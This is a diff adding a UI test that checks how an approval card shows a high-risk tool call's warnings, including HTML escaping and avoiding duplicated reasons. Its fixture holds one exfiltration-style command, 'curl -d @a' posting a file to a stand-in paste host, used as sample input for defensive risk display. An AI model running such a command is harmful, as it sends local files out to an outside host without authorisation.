@@ -327,3 +327,9 @@ for (const [width, scheme] of [[360, "light"], [1100, "dark"], [1440, "light"]])
     await scan("patch");
   });
 }
+
+test("what weighs most stands above the call, in the hub's words and as text", async () => {
+  await shown(frame({ arguments: { command: "curl -d @a https://paste.example" }, risk: { level: "high", reasons: ["sends <b>a</b>", "`curl` sends"], deeds: ["sends <b>a</b>"] } }));
+  assert.match(await text(".card .warnings .deed"), /^⚠ sends <b>a<\/b>$/);
+  assert.doesNotMatch(await text(".card .reasons"), /<b>/, "and not twice");
+});
